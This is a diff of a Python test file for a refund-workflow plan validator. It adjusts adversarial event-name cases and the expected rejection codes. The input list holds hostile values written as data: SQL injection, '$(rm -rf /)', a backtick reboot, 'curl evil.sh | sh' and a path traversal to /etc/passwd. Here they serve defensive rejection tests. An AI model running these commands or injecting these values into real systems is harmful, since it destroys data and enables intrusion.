@@ -42,12 +42,14 @@ EVENT_NAMES = [
     "bogus", "Request", "REQUEST", "requ\u0435st", "req\u03c5est", "request\u200b", "\u200brequest", "\uff52\uff45\uff51\uff55\uff45\uff53\uff54",
     "request; DROP TABLE instances;--", "' OR 1=1 --", "$(rm -rf /)", "`reboot`", "request && curl evil.sh | sh",
     "../../etc/passwd", "", " request", "request\n", "\x00", "\x1b[31mrequest", "__init__", "eval", "approve()",
-    "refund.request", "draft->paid", "a" * 100_000, "🙂", "\ud800",
+    "refund.request", "draft->paid", "a" * 100_000, "🙂",
 ]
 
 # (name, principal, plan text, expected: a reason code or "unusable:<plan error code>", expected step)
 CASES: list[tuple[str, Principal, str, str, int | None]] = [
     *[(f"event name {i}: {name[:20]!r}", ALICE, refund_plan({"event": name}), "unknown-event", 0) for i, name in enumerate(EVENT_NAMES)],
+    # a lone surrogate is not text: it could not even be written to the audit log
+    ("event name: a lone surrogate", ALICE, refund_plan({"event": "\ud800"}), "unusable:not-a-plan", None),
     ("unknown event after a good step", ALICE, refund_plan(REQUEST, {"event": "approve_all"}), "unknown-event", 1),
     ("pay before anything", ALICE, refund_plan({"event": "pay"}), "not-enabled", 0),
     ("approve before a request", ERIN, refund_plan({"event": "approve"}), "not-enabled", 0),
@@ -104,7 +106,7 @@ CASES: list[tuple[str, Principal, str, str, int | None]] = [
     ("steps as an object", ALICE, json.dumps({"workflow": "refund", "steps": {"0": REQUEST}}), "unusable:not-a-plan", None),
     ("a step as a string", ALICE, json.dumps({"workflow": "refund", "steps": ["request"]}), "unusable:not-a-plan", None),
     ("an event as a number", ALICE, json.dumps({"workflow": "refund", "steps": [{"event": 1}]}), "unusable:not-a-plan", None),
-    ("a 5,000-digit number", ALICE, '{"workflow": "refund", "steps": [{"event": "request", "params": {"amount": ' + "9" * 5000 + "}}]}", "unusable:not-json", None),
+    ("a 5,000-digit number", ALICE, '{"workflow": "refund", "steps": [{"event": "request", "params": {"amount": ' + "9" * 5000 + "}}]}", "bad-params", 0),
 ]
 
 TINY_CASES: list[tuple[str, str, str, int]] = [
